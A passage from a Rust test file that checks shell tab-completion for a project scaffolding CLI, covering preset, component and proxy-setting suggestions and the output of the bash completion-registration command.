        |out: &str| -> Vec<String> { out.lines().map(|l| l.split('\t').next().unwrap_or("").to_owned()).collect() };
    assert!(first(&complete(&["init", "--preset", ""])).contains(&"nextjs-prisma".to_owned()));
    let components = first(&complete(&["add", ""]));
    assert!(components.contains(&"pitr".to_owned()) && !components.contains(&"nginx".to_owned()), "{components:?}");
    assert_eq!(first(&complete(&["update", "--set", "proxy=tr"])), ["proxy=traefik"]);
    // The registration calls the binary back on each Tab.
    let mut cmd = std::process::Command::new(support::bin());
    cmd.args(["completions", "bash"]);
    support::run_command(cmd, "scaffold completions bash").ok().stdout_has("COMPLETE").stdout_has("complete -");
}
